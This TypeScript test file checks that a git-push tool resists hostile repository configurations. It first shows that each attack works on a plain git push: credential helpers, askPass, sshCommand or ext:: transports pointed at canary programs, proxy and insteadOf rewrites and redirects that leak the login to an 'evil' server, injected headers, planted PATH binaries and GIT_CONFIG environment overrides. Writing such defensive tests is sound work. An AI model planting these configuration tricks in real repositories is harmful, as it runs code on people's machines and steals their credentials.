import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { GitFixture } from './git-fixture.test-data.ts';
import { type HttpRemote, startHttpRemote } from './http-remote.test-data.ts';

// A hostile repository wants the person's login, or one of its programs run outside isolation (RN-6). The person has
// signed in at `good`; nobody has at `evil`, but the person's helper would answer for any host.

let fixture: GitFixture;
let good: HttpRemote;
let evil: HttpRemote;
beforeEach(async () => {
  fixture = await attacked();
});
afterEach(async () => {
  good.close();
  evil.close();
  await fixture.remove();
});

async function attacked(): Promise<GitFixture> {
  const made = new GitFixture().withCommit();
  good = await startHttpRemote('ada:hunter2', { tls: true });
  evil = await startHttpRemote('eve:evil');
  good.folder = made.outside;
  evil.folder = made.outside;
  made.git('init', '-q', '--bare', '--initial-branch=main', join(made.outside, 'remote.git'));
  made.git('remote', 'add', 'origin', `${good.url}/remote.git`);
  writeFileSync(join(made.home, 'ca.pem'), good.certificate ?? '');
  made.personsGit(`http.${good.url}/.sslCAInfo`, join(made.home, 'ca.pem'));
  made.personsGit('credential.helper', '!printf "username=ada\\npassword=hunter2\\n"; :');
  return made;
}

const tip = (): string => fixture.git('rev-parse', 'HEAD').trim();
const pushedTip = (): string =>
  fixture.git('-C', join(fixture.outside, 'remote.git'), 'rev-parse', 'main').trim();
const failure = (): Promise<string> => fixture.call('git_push').then(String, (error: Error) => error.message);
/** A push by a git that trusts the repository's configuration. */
const naivePush = (): Promise<number | null> => fixture.naiveGit('push', 'origin', 'main');

describe('[RN-6] nothing in the configuration of a hostile repository takes part in a push', () => {
  const settings: readonly [name: string, settings: () => Record<string, string>][] = [
    ['a credential helper', () => ({ 'credential.helper': `!${fixture.canary('canary', 'exit 1')}` })],
    [
      'a program that asks',
      () => ({ 'credential.helper': '', 'core.askPass': fixture.canary('canary', 'exit 1') }),
    ],
    [
      'a rewriting to an ssh command',
      () => ({
        'url.ssh://x.invalid/.insteadOf': `${good.url}/`,
        'core.sshCommand': fixture.canary('canary', 'exit 1'),
      }),
    ],
    [
      'a rewriting to a helper program',
      () => ({
        [`url.ext::${fixture.canary('canary', 'exit 1')} .pushInsteadOf`]: `${good.url}/`,
        'protocol.ext.allow': 'always',
      }),
    ],
    [
      'another transport',
      () => ({
        'remote.origin.vcs': 'ext',
        'remote.origin.url': `${fixture.canary('canary', 'exit 1')} `,
        'remote.origin.pushurl': `${good.url}/remote.git`,
        'protocol.ext.allow': 'always',
      }),
    ],
    [
      'a program that signs',
      () => ({ 'gpg.program': fixture.canary('canary', 'exit 1'), 'push.gpgSign': 'if-asked' }),
    ],
    ['an included file', () => ({ 'include.path': '../evil.config' })],
  ];
  it.each(settings)('%s', async (name, made) => {
    const entries = Object.entries(made());
    fixture.write('evil.config', `[credential]\n\thelper = "!${fixture.canary('canary', 'exit 1')}"\n`);
    for (const [key, value] of entries) fixture.git('config', key, value);
    fixture.takeMarks();
    if (name !== 'another transport' && name !== 'a program that signs') {
      await naivePush();
      expect(fixture.takeMarks(), 'the attack is real').toEqual(['canary']);
    }
    fixture.git('commit', '-q', '--allow-empty', '-m', 'next');
    expect(await fixture.call('git_push')).toMatchObject({ to: tip() });
    expect(fixture.takeMarks()).toEqual([]);
    expect(pushedTip()).toBe(tip());
    expect(evil.logins).toEqual([]);
  });

  it('sends the login neither through a proxy nor to another host', async () => {
    for (const [key, value] of [
      ['http.proxy', evil.url],
      ['remote.origin.proxy', evil.url],
      [`url.${evil.url}/.insteadOf`, `${good.url}/`],
      [`url.${evil.url}/.pushInsteadOf`, `${good.url}/`],
    ] as const) {
      fixture.git('config', key, value);
      await naivePush();
      expect(evil.logins.length, `${key} is real`).toBeGreaterThan(0);
      evil.logins.length = 0;
      fixture.git('commit', '-q', '--allow-empty', '-m', 'next');
      expect((await fixture.preview('git_push', {})).preview).toMatchObject({
        url: `${good.url}/remote.git`,
      });
      expect(await fixture.call('git_push')).toMatchObject({ to: tip() });
      expect(evil.logins).toEqual([]);
    }
  });

  it('a certificate that the person does not trust stays untrusted', async () => {
    fixture.git('config', 'http.sslVerify', 'false');
    writeFileSync(join(fixture.home, 'ca.pem'), (await startedCertificate()) ?? '');
    expect(await failure()).toMatch(/certificate/i);
    expect(good.logins).toEqual([]);
    await naivePush();
    expect(good.logins, 'the attack is real').toContain('ada:hunter2');
  });

  it('no header and no cookie of the repository is sent', async () => {
    const headers: unknown[] = [];
    good.close();
    good = await startHttpRemote('', {
      instead: (request, response) => {
        headers.push(request.headers['x-evil'], request.headers.cookie);
        response.writeHead(404).end();
      },
    });
    fixture.git('config', 'remote.origin.url', `${good.url}/remote.git`);
    fixture.write('cookies', `127.0.0.2\tFALSE\t/\tFALSE\t4102444800\tevil\tyes\n`);
    fixture.git('config', 'http.extraHeader', 'X-Evil: yes');
    fixture.git('config', 'http.cookieFile', join(fixture.root, 'cookies'));
    await naivePush();
    expect(headers, 'the attack is real').toEqual(['yes', 'evil=yes']);
    headers.length = 0;
    await failure();
    expect(headers).toEqual([undefined, undefined]);
  });

  it('ignores the configuration of a linked work tree too', async () => {
    fixture.git('config', 'extensions.worktreeConfig', 'true');
    fixture.git('config', '--worktree', 'credential.helper', `!${fixture.canary('canary', 'exit 1')}`);
    await naivePush();
    expect(fixture.takeMarks(), 'the attack is real').toEqual(['canary']);
    fixture.git('commit', '-q', '--allow-empty', '-m', 'next');
    expect(await fixture.call('git_push')).toMatchObject({ to: tip() });
    expect(fixture.takeMarks()).toEqual([]);
  });
});

async function startedCertificate(): Promise<string | undefined> {
  const other = await startHttpRemote('x', { tls: true });
  other.close();
  return other.certificate;
}

describe('[RN-6] a hostile address', () => {
  it.each([301, 302, 307])('a redirect (%i) does not lead the login elsewhere', async (status) => {
    const seen = evil;
    good.close();
    good = await startHttpRemote('', {
      instead: (request, response) =>
        response.writeHead(status, { location: `${seen.url}${request.url}` }).end(),
    });
    fixture.git('config', 'remote.origin.url', `${good.url}/remote.git`);
    await naivePush();
    expect(evil.logins, 'the attack is real').toContain('ada:hunter2');
    evil.logins.length = 0;
    expect(await failure()).toContain('redirects to another address');
    expect(evil.logins).toEqual([]);
  });

  it('an address without encryption gets no login of the person', async () => {
    good.close();
    good = await startHttpRemote('ada:hunter2');
    good.folder = fixture.outside;
    // 127.2 is this machine too, but nothing here knows that, so it stands for any other host.
    fixture.git('config', 'remote.origin.url', `http://127.2:${good.port}/remote.git`);
    await naivePush();
    expect(good.logins, 'the attack is real').toContain('ada:hunter2');
    good.logins.length = 0;
    expect(await failure()).toContain('is not encrypted');
    expect(new Set(good.logins)).toEqual(new Set([undefined]));
    fixture.git('config', 'remote.origin.url', `http://127.0.0.2:${good.port}/remote.git`);
    fixture.git('commit', '-q', '--allow-empty', '-m', 'next');
    expect(await fixture.call('git_push')).toMatchObject({ to: tip() });
  });

  it("a login in the address is used, and never replaces one in the person's store", async () => {
    const store = join(fixture.home, 'store');
    fixture.personsGit('credential.helper', '');
    fixture.personsGit('credential.helper', `store --file=${store}`);
    fixture.git('config', 'remote.origin.url', `https://ada:hunter2@${good.address}/remote.git`);
    await naivePush();
    expect(readFileSync(store, 'utf8'), 'the attack is real').toContain('ada:hunter2');
    writeFileSync(store, '');
    fixture.git('commit', '-q', '--allow-empty', '-m', 'next');
    expect(await fixture.call('git_push')).toMatchObject({ to: tip() });
    expect(readFileSync(store, 'utf8')).toBe('');
  });
});

describe('[RN-6] programs and files of the workspace', () => {
  it.each(['git', 'ssh', 'git-credential-mine'])(
    'a program %s in the workspace, on the PATH of the runner, is not found',
    async (name) => {
      const bin = join(fixture.root, 'node_modules/.bin');
      mkdirSync(bin, { recursive: true });
      symlinkSync(bin, join(fixture.outside, 'linked'));
      writeFileSync(join(bin, name), readFileSync(fixture.canary('canary', 'exit 1')));
      chmodSync(join(bin, name), 0o755);
      const places = [bin, join(fixture.outside, 'linked'), 'node_modules/.bin', ''];
      fixture.environment.PATH = `${places.join(':')}:${process.env.PATH}`;
      spawnSync('sh', ['-c', name], { cwd: fixture.root, env: fixture.environment });
      expect(fixture.takeMarks(), 'the attack is real').toEqual(['canary']);
      if (name === 'git-credential-mine') fixture.personsGit('credential.helper', 'mine');
      if (name === 'ssh') fixture.git('config', 'remote.origin.url', 'ssh://x.invalid/y');
      await failure();
      expect(fixture.takeMarks()).toEqual([]);
      if (name !== 'ssh') expect(pushedTip()).toBe(tip());
    },
  );

  it('programs of the workspace that variables of the runner name are not used', async () => {
    fixture.personsGit('credential.helper', '');
    fixture.write('ask', readFileSync(fixture.canary('canary', 'exit 1')));
    chmodSync(join(fixture.root, 'ask'), 0o755);
    const ask = join(fixture.root, 'ask');
    Object.assign(fixture.environment, {
      GIT_ASKPASS: ask,
      SSH_ASKPASS: ask,
      GIT_DIR: fixture.root,
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'core.askPass',
      GIT_CONFIG_VALUE_0: ask,
      GIT_CONFIG_PARAMETERS: `'credential.helper=!${ask}'`,
      GIT_TRACE: join(fixture.outside, 'trace'),
    });
    expect(await failure()).toContain('did not accept the login');
    expect(fixture.takeMarks()).toEqual([]);
    expect(existsSync(join(fixture.outside, 'trace'))).toBe(false);
  });

  it("refuses where a file of the person's configuration is in the workspace", async () => {
    fixture.write('team.config', '[credential]\n\thelper = store\n');
    fixture.personsGit('include.path', join(fixture.root, 'team.config'));
    await expect(fixture.preview('git_push', {})).rejects.toMatchObject({
      code: 'GIT_FAILED',
      message: expect.stringContaining('is inside the workspace'),
    });
    expect(await failure()).toContain('is inside the workspace');
    expect(good.logins).toEqual([]);
  });

  it('objects from outside the workspace are not pushed', async () => {
    const secret = join(fixture.outside, 'secret');
    fixture.git('clone', '-q', fixture.root, secret);
    fixture.git('-C', secret, 'commit', '-q', '--allow-empty', '-m', 'private');
    const id = fixture.git('-C', secret, 'rev-parse', 'HEAD').trim();
    const place = `.git/objects/${id.slice(0, 2)}`;
    if (!existsSync(join(fixture.root, place))) symlinkSync(join(secret, place), join(fixture.root, place));
    else symlinkSync(join(secret, place, id.slice(2)), join(fixture.root, place, id.slice(2)));
    fixture.git('update-ref', 'refs/heads/main', id);
    await naivePush();
    expect(pushedTip(), 'the attack is real').toBe(id);
    fixture.git('-C', join(fixture.outside, 'remote.git'), 'update-ref', '-d', 'refs/heads/main');
    good.logins.length = 0;
    await failure();
    expect(() => pushedTip()).toThrow();
    expect(good.logins).toEqual([]);
  });
});
